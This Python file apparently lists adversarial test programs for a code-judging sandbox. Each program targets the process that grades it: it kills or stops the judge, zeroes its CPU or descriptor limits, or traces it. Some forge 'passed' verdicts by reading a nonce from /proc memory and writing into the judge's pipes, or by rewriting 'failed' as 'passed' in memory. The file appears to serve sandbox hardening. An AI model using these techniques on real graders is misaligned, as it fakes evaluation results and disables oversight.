"""Programs that reach for the processes that judge them: for their memory, descriptors and limits, and with signals.

They pay where processes share a user and nothing closes them: each ends, changes or reads the judge. They touch only the
sandbox's own processes and the pipes of the process that opened it.
"""

RELATIVES = """
import ctypes, fcntl, glob, json, os, re, resource, signal, struct, sys, time
libc = ctypes.CDLL(None)
square = lambda x: 0
def attempt(f, *args):
    try: return f(*args)
    except Exception: return None
def above(pid):
    with open(f'/proc/{pid}/stat') as file: return int(file.read().rpartition(')')[2].split()[1])
def below(pid):
    found = []
    for path in glob.glob(f'/proc/{pid}/task/*/children'):
        with open(path) as file: found += [int(each) for each in file.read().split()]
    return found + [each for one in found for each in below(one)]
zygote = attempt(above, os.getppid()) or os.getppid()
client = attempt(above, zygote)
def others(): return [pid for pid in attempt(below, zygote) or [os.getppid()] if pid != os.getpid()]
def judges(): return [pid for pid in others() if above(pid) != zygote]
"""
MEMORY = """
def regions(pid):
    with open(f'/proc/{pid}/maps') as file:
        for line in file:
            place, rights, *_ = line.split()
            if rights.startswith('rw'): yield [int(each, 16) for each in place.split('-')]
"""
FORGE = f"""{MEMORY}
def nonce_of(pid):
    with open(f'/proc/{{pid}}/mem', 'rb', buffering=0) as memory:
        for start, end in regions(pid):
            memory.seek(start)
            found = re.search(rb'"nonce": "([0-9a-f]{{32}})"', attempt(memory.read, end - start) or b'')
            if found: return found[1].decode()
def forge(end):
    for pid in judges():
        nonce = nonce_of(pid)
        told = lambda kind, outcome='': json.dumps(dict(nonce=nonce, kind=kind, outcome=outcome, detail='')) + chr(10)
        text = told('case', 'passed') * 3 + told('end')
        for path in glob.glob(f'/proc/{{pid}}/fd/*'):
            if int(path.rpartition('/')[2]) > 4 and os.readlink(path).startswith('pipe:'):
                with open(path, 'w') as file: file.write(text)
        end(pid)
"""
ON_PROCESSES = {
    "signals the judge": "for pid in others(): attempt(os.kill, pid, signal.SIGKILL)",
    "signals the judge's thread": "for pid in others(): libc.tgkill(pid, pid, 9); libc.syscall(200, pid, 9)",
    "signals the judge by descriptor": "for pid in others():\n"
    " attempt(lambda: signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL))",
    "queues a signal for the judge": "for pid in others(): libc.sigqueue(pid, 9, 0)",
    "has the judge told of its pipe": "read, write = os.pipe()\nfor pid in others():\n"
    " attempt(fcntl.fcntl, read, 10, 9); attempt(fcntl.fcntl, read, fcntl.F_SETOWN, pid)\n"
    " attempt(fcntl.fcntl, read, fcntl.F_SETFL, os.O_ASYNC)\n os.write(write, b'x')",
    "has the judge told of its socket": "import socket\nread, write = attempt(socket.socketpair)\nfor pid in others():\n"
    " attempt(fcntl.fcntl, read, 10, 9); attempt(fcntl.ioctl, read, 0x8901, struct.pack('i', pid))\n"
    " attempt(fcntl.fcntl, read, fcntl.F_SETFL, os.O_ASYNC)\n attempt(write.send, b'x')",
    "has a child signal the judge": "if os.fork() == 0:\n"
    " for pid in others(): attempt(os.kill, pid, signal.SIGKILL)\n os._exit(0)\nos.wait()",
    "takes the judge's processor time": "for pid in others(): attempt(resource.prlimit, pid, resource.RLIMIT_CPU, (0, 0))",
    "takes the judge's descriptors": "for pid in others(): attempt(resource.prlimit, pid, resource.RLIMIT_NOFILE, (0, 0))",
    "traces the judge": "for pid in others(): libc.ptrace(16, pid, 0, 0)",
    "forges the verdict and kills the judge": f"{FORGE}square = lambda x: "
    "attempt(forge, lambda pid: os.kill(pid, signal.SIGKILL))",
    "forges the verdict and stops the judge": f"{FORGE}square = lambda x: "
    "attempt(forge, lambda pid: os.kill(pid, signal.SIGSTOP))",
    "forges the verdict and ends the judge's time": f"{FORGE}square = lambda x: attempt(forge, lambda pid: "
    "resource.prlimit(pid, resource.RLIMIT_CPU, (0, 0)))",
    "writes over what the judge will say": f"""{MEMORY}
def change():
    for pid in judges():
        with open(f'/proc/{{pid}}/mem', 'r+b', buffering=0) as memory:
            for start, end in regions(pid):
                memory.seek(start)
                text = attempt(memory.read, end - start) or b''
                at = text.find(b'failed')
                while at >= 0:
                    memory.seek(start + at)
                    memory.write(b'passed')
                    at = text.find(b'failed', at + 1)
attempt(change)""",
    "reports that the judge could not start": """
for pid in others():
    for path in attempt(glob.glob, f'/proc/{pid}/fd/*'):
        attempt(lambda: os.write(os.open(path, os.O_WRONLY | os.O_NONBLOCK), b'no room'))""",
    "takes what the judge said from its reader": """
import threading
def steal():
    until = time.monotonic() + 0.5
    while time.monotonic() < until:
        for path in attempt(glob.glob, f'/proc/{client}/fd/*') or ():
            if int(path.rpartition('/')[2]) > 2 and (attempt(os.readlink, path) or '').startswith('pipe:'):
                pipe = attempt(os.open, path, os.O_RDWR | os.O_NONBLOCK)
                text = attempt(os.read, pipe, 65536)
                if text: attempt(os.write, pipe, text.replace(b'"failed"', b'"passed"'))
                if pipe is not None: os.close(pipe)
if client: threading.Thread(target=steal, daemon=True).start()
def square(x): time.sleep(0.2); return 0""",
}
PROCESS_HACKS = [(cause, "square", f"{RELATIVES}{program}\n") for cause, program in ON_PROCESSES.items()]
